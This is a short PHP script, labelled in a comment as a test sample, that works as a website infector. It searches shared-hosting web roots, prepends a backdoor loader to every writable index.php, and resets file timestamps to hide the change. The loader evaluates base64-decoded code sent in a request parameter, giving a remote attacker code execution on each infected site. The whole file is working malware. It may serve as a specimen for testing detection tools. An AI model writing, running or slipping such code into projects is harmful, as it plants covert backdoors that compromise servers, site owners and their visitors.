<?php
// Test sample: infector - prepends a loader to every index.php found with
// glob() across the account's sites (skips files already infected).
$loader = '<?php if(isset($_REQUEST["_wp"])){eval(base64_decode($_REQUEST["_wp"]));} ?>';
$roots = array_merge(glob('/home/*/public_html', GLOB_ONLYDIR), glob('/var/www/vhosts/*/httpdocs', GLOB_ONLYDIR));
foreach ($roots as $root) {
    foreach (array_merge(glob($root . '/index.php'), glob($root . '/*/index.php'), glob($root . '/*/*/index.php')) as $file) {
        $src = @file_get_contents($file);
        if ($src === false || strpos($src, '$_REQUEST["_wp"]') !== false || !is_writable($file)) {
            continue;
        }
        $mtime = filemtime($file);
        file_put_contents($file, $loader . $src);
        touch($file, $mtime);
        echo "infected: $file\n";
    }
}
